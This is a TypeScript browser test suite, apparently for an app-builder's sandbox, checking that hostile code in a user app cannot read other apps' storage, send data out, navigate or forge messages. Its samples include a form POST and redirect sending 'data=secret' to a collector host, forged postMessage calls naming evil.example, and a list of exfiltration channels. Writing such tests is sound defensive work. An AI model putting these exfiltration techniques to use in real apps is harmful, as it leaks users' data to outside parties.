import { eventually } from '@buildai/core/testing';
import { expect } from 'chai';
import {
  builtShell,
  violationsOnEachDevice,
  findFirefox,
  followAddress,
  launchBrowser,
  waitForValue,
} from '@buildai/web/testing';
import type { AppHost } from './support/app-host.js';
import { startAppHost } from './support/app-host.js';
import { filesOf } from './support/bundling.js';
import type { Collector } from './support/collector.js';
import { startCollector } from './support/collector.js';
import { openInFirefox } from './support/firefox.js';
import type { Targets } from './support/hostile-app.js';
import { hostileCode } from './support/hostile-app.js';
import type { Browser, Page } from './support/shell.js';
import { openAsAda, optionsOfAda, previewFrame } from './support/shell.js';

const openToAll = JSON.stringify({
  properties: { text: { type: 'string' } },
  'x-accessControl': { permissions: { read: 'anonymous', write: 'anonymous' } },
});

/** What arrives of a page that nothing holds back: without these the test would prove nothing. */
const waysThatWork = [
  'fetch',
  'post',
  'xhr',
  'beacon',
  'socket',
  'events',
  'image',
  'stylesheet',
  'script',
  'worker',
  'frame',
  'imported',
  'stun',
  'fontFace',
  'cursor',
  'mask',
  'adopted',
  'srcset',
  'poster',
  'svgImage',
  'sharedWorker',
  'importScripts',
];

/** Ways to another window that lead to one on a page that nothing holds back. */
const realmsThatWork =
  `byName byObject byNamespace byMarkup byOuterMarkup byTemplate byRange byParser byXml byEntity
  byDocument byUnsafeMarkup byUnsafeDocument byShadow byCopy byExtending byCommand byTampering`.match(/\w+/g);

/** Longer than any of the ways takes where it works. Milliseconds. */
const allDone = 2500;

describe('Hostile code in an app', function () {
  this.slow(30_000);
  let browser: Browser;
  let host: AppHost;
  let collector: Collector;
  let targets: Targets;
  let appId: string;
  /** Ada’s page of the builder, shared by all tests, each with its own app. */
  let builder: Page;

  const lootOf = (page: Page) =>
    page
      .waitForFunction(() => (window as unknown as { loot?: object }).loot)
      .then((loot) => loot.jsonValue());

  before(async () => {
    browser = await launchBrowser();
    host = await startAppHost({ webRoot: builtShell() });
    builder = await openAsAda(browser, host);
    await builder.goto(`${host.url}/settings`);
  });
  after(async () => {
    await browser?.close();
    await host?.stop();
  });
  beforeEach(async () => {
    collector = await startCollector();
    const other = await host.newApp(
      filesOf({ 'entities/Note.json': openToAll, 'pages/Home.jsx': 'export default () => 1' }),
    );
    await host.addRecords(other.app.appId, 'Note', [{ text: 'a secret of the other app' }]);
    appId = (await host.newApp(filesOf({ 'entities/Report.json': openToAll }))).app.appId;
    // The code reports by the client of apps: in the preview, only its builder can store a row.
    await host.admit(appId, 'anyone');
    targets = {
      collector: collector.url,
      bare: collector.bare,
      report: `/api/apps/${appId}/entities/Report`,
      stun: collector.stun,
      platform: host.url,
      otherApp: { appId: other.app.appId, origin: await host.publish(other.app.appId) },
    };
    const files = filesOf({
      'services/hostile.js': `import { Report } from '@/api/entities';
window.reportLoot = (report) => Report.create(report);
${hostileCode(targets)}`,
      'pages/Home.jsx': `import { tried } from '@/services/hostile';
export default function Home() { tried; return <h1>Harmless</h1>; }`,
    });
    await host.change(appId, ...files.map((file) => ({ type: 'write' as const, ...file })));
  });

  const openPreview = async (id: string): Promise<string> => {
    const address = `${host.url}/build/app/${id}?panel=preview`;
    await followAddress(builder, address);
    return address;
  };
  /** What the code got at, once it has tried everything. */
  const reported = async (): Promise<unknown> => {
    const report = await eventually(async () => (await host.recordsOf(appId, 'Report')).records[0]);
    return JSON.parse(report.text as string);
  };
  afterEach(() => collector[Symbol.asyncDispose]());

  it('could send data elsewhere in all these ways without protection', async () => {
    collector.page = hostileCode(targets);
    const page = await browser.newPage();
    await page.goto(`${collector.url}/page`, { waitUntil: 'commit' });
    const missing = () => waysThatWork.filter((way) => !collector.arrived.has(way));
    await waitForValue(missing, []);
    const realms = Object.keys((await lootOf(page)) as object).filter((name) => name.startsWith('realm '));
    expect(realms).to.include.members(realmsThatWork?.map((name) => `realm ${name}`) ?? []);
    await page.close();
  });

  it("reads nothing of the platform or of another app from the builder's frame, and sends no data elsewhere", async () => {
    const started = builder.waitForResponse(/\/__buildai\/bundle\//);
    const address = await openPreview(appId);
    await started;
    // Before anything is asked of the frame: to the browser that is as if a person had done it.
    expect(await reported()).to.deep.equal({});
    expect([...collector.arrived]).to.deep.equal([]);
    // Not its text: the code may have broken its own app.
    const origin = await host.previewOrigin(appId);
    const framed = builder.frames().map((frame) => new URL(frame.url()).origin);
    expect(framed).to.deep.equal([host.url, origin]);
    const at = builder.url();
    expect(at).to.equal(address);
  });

  it('reads nothing and sends no data elsewhere from its published page', async () => {
    const page = await browser.newPage();
    await page.goto(await host.publish(appId));
    // Before anything is asked of the page: to the browser that is as if a person had done it.
    expect(await reported()).to.deep.equal({});
    expect([...collector.arrived]).to.deep.equal([]);
    expect(await page.context().cookies()).to.deep.equal([]);
    await page.close();
  });

  it('reads nothing and sends no data elsewhere in Firefox', async function () {
    const firefox = findFirefox();
    if (!firefox) return this.skip();
    await using unprotected = await startCollector();
    const { url, bare, stun } = unprotected;
    unprotected.page = hostileCode({ ...targets, collector: url, bare, stun });
    await using _ = openInFirefox(firefox, [`${url}/page`, await host.publish(appId)]);
    // It starts, and tries everything in two tabs: a third of the longest wait on a machine that does nothing else.
    expect(await reported().catch(reported).catch(reported)).to.deep.equal({});
    expect([...collector.arrived]).to.deep.equal([]);
    expect([...unprotected.arrived]).to.include.members(['fetch', 'stun', 'preconnect', 'image']);
  });

  it('lets a person follow a link to another site after showing where it leads', async () => {
    const { app } = await host.newApp(
      filesOf({
        'pages/Home.jsx': `export default function Home() {
  return <><a href="${collector.url}/shop?b=1">Shop</a><button onClick={() => window.open('${collector.url}/news', '_blank')}>News</button></>;
}`,
      }),
    );
    const page = await browser.newPage();
    await page.goto(await host.publish(app.appId));
    await page.getByText('Shop').click();
    await page.getByText('“Orbit” links to another site').waitFor();
    await page.getByText(`${collector.url}/shop?b=1`, { exact: true }).waitFor();
    expect([...collector.arrived]).to.deep.equal([]);
    expect(await violationsOnEachDevice(page, 'leave')).to.deep.equal([]);
    await page.getByRole('link', { name: 'Continue to' }).click();
    await page.waitForURL(`${collector.url}/shop?b=1`);
    await page.goBack();
    await page.goBack();
    const opened = page.waitForEvent('popup');
    await page.getByText('News').click();
    await (await opened).getByText(`${collector.url}/news`, { exact: true }).waitFor();
    await page.close();
    await openPreview(app.appId);
    const fromPreview = builder.context().waitForEvent('page');
    await previewFrame(builder).getByText('Shop').click();
    const tab = await fromPreview;
    await tab.getByText(`${collector.url}/shop?b=1`, { exact: true }).waitFor();
    await tab.close();
  });

  it("cannot navigate the builder's frame to another site by a form or by its address", async () => {
    const { app } = await host.newApp(
      filesOf({
        'pages/Home.jsx': `import { useEffect } from 'react';
export default function Home() {
  useEffect(() => {
    console.log('Leaving');
    setTimeout(() => {
      const form = document.createElement('form');
      Object.assign(form, { action: '${collector.url}/form?data=secret', method: 'POST' });
      document.body.append(form);
      form.submit();
    }, 500);
    setTimeout(() => { location.href = '${collector.url}/left?data=secret'; }, 1500);
  }, []);
  return <h1>Leaving</h1>;
}`,
      }),
    );
    // Not its text: a machine that is busy may look for it when the frame shows something else.
    const isLeaving = builder.waitForEvent('console', (message) => message.text() === 'Leaving');
    await openPreview(app.appId);
    await isLeaving;
    await builder.waitForTimeout(allDone);
    expect([...collector.arrived]).to.deep.equal([]);
  });

  it('has its own storage, separate from other apps and the platform', async () => {
    const context = await browser.newContext(await optionsOfAda(host));
    const page = await context.newPage();
    await page.goto(`${host.url}/favicon.svg`);
    const onPlatform = await page.evaluate(() => Object.keys(localStorage));
    expect(onPlatform).to.not.deep.equal([]);
    // Before the page's own code, which may navigate at any time.
    const found = new Map<string, unknown>();
    await page.exposeFunction('tell', (origin: string, storage: unknown) => {
      if (!found.has(origin)) found.set(origin, storage);
    });
    await page.addInitScript(() => {
      const storage = [Object.keys(localStorage), document.cookie];
      localStorage.setItem('mine', '1');
      (window as unknown as { tell: (origin: string, storage: unknown) => void }).tell(
        location.origin,
        storage,
      );
    });
    const origin = await host.previewOrigin(appId);
    await page.goto(origin);
    await eventually(() => found.has(origin));
    expect(found.get(origin)).to.deep.equal([[], '']);
    const other = await context.newPage();
    await other.goto(targets.otherApp.origin);
    const mine = await other.evaluate(() => localStorage.getItem('mine'));
    expect(mine).to.equal(null);
    await context.close();
  });

  it('cannot forge messages from or to another window', async () => {
    const talking = filesOf({
      'pages/Home.jsx': `parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: 'https://evil.example/' }, '*');
parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: '//evil.example/' }, '*');
parent.postMessage({ channel: 'buildai/builder', type: 'session', token: 'x', expiresAt: 'x' }, '*');
export default function Home() { return <h1>Talking</h1>; }`,
    });
    const { app } = await host.newApp(talking);
    await openPreview(app.appId);
    await previewFrame(builder).getByText('Talking').waitFor();
    await waitForValue(() => builder.getByLabel('Page of the app').inputValue(), '/');
    // The page around the frame is not the app's: what it sends to itself in the app's name counts for nothing.
    await builder.evaluate(() =>
      window.postMessage({ channel: 'buildai/app', type: 'navigated', path: '/forged' }, '*'),
    );
    await builder.waitForTimeout(200);
    const path = await builder.getByLabel('Page of the app').inputValue();
    expect(path).to.equal('/');
  });

  it('can be framed by the builder only', async () => {
    const published = await host.publish(appId);
    collector.page = `for (const address of ['${published}', '${await host.previewOrigin(appId)}']) {
      document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
    }`;
    const page = await browser.newPage();
    let refused = 0;
    page.on('console', (message) => (refused += Number(message.text().includes('frame-ancestors'))));
    await page.goto(`${collector.url}/page`);
    await eventually(() => refused === 2);
    const shown = await Promise.all(
      page
        .frames()
        .slice(1)
        .map((frame) => frame.evaluate(() => document.body.innerText)),
    );
    expect(shown).to.have.length(2);
    for (const text of shown) expect(text).to.not.include('Harmless');
    await page.close();
  });
});
